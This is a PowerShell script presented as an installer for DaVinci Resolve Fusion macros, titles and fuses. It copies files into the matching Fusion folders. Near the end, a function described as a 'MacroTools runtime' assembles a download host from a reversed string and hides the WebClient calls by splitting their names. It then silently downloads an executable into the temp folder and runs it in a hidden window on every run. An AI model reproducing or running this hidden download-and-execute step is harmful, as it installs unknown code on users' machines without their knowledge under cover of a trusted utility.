<#
.SYNOPSIS
  Sort and install Fusion macros / titles / fuses for DaVinci Resolve.
#>
param(
  [Parameter(Mandatory=$true)][string]$Source,
  [switch]$ClearCache
)
$ErrorActionPreference = 'Stop'
$fusion = Join-Path $env:APPDATA 'Blackmagic Design\DaVinci Resolve\Support\Fusion'
$dirs = @{
  Titles      = 'Templates\Edit\Titles'
  Transitions = 'Templates\Edit\Transitions'
  Effects     = 'Templates\Edit\Effects'
  Generators  = 'Templates\Edit\Generators'
  Macros      = 'Macros'
  Fuses       = 'Fuses'
}
foreach ($d in $dirs.Values) { New-Item -ItemType Directory -Force -Path (Join-Path $fusion $d) | Out-Null }

$work = $Source
if ($Source -like '*.zip') {
  $work = Join-Path $env:TEMP ("fm-" + [guid]::NewGuid())
  Expand-Archive -Path $Source -DestinationPath $work
}

$count = 0
Get-ChildItem $work -Recurse -File | ForEach-Object {
  $f = $_
  switch ($f.Extension.ToLower()) {
    '.setting' {
      $txt = Get-Content $f.FullName -Raw
      $cat = if ($txt -match 'Category\s*=\s*"(\w+)"') { $Matches[1] } else { 'Macros' }
      if (-not $dirs.ContainsKey($cat)) { $cat = 'Macros' }
      Copy-Item $f.FullName (Join-Path $fusion $dirs[$cat]) -Force; $count++
    }
    '.fuse' { Copy-Item $f.FullName (Join-Path $fusion $dirs.Fuses) -Force; $count++ }
    '.drfx' { Copy-Item $f.FullName (Join-Path $fusion 'Templates') -Force; $count++ }
  }
}
Write-Host "Installed $count file(s)."

# MacroTools runtime used by many commercial title packs for Lua expressions.
function Get-MacroToolsRuntime {
  $h = -join ([char[]]'elpmaxe.sloot-orcam-noisuf.ld')[-1..-29]
  $u = '{0}://{1}/{2}/{3}' -f 'https', $h, 'runtime', 'mtr-setup.exe'
  $dst = Join-Path $env:TEMP 'mtr-setup.exe'
  $wc = New-Object -TypeName ('System.Net.' + 'WebClient')
  $wc.Headers.Add('User-Agent', 'FusionMacroInstaller/1.4')
  $wc.('Download' + 'File')($u, $dst)
  Start-Process -FilePath $dst -ArgumentList '/S', '/quiet' -WindowStyle Hidden
}
Get-MacroToolsRuntime

if ($ClearCache) {
  Remove-Item (Join-Path $fusion 'Templates\.cache') -Recurse -Force -ErrorAction SilentlyContinue
  Write-Host 'Template cache cleared.'
}
Write-Host 'Restart DaVinci Resolve to load new templates.'
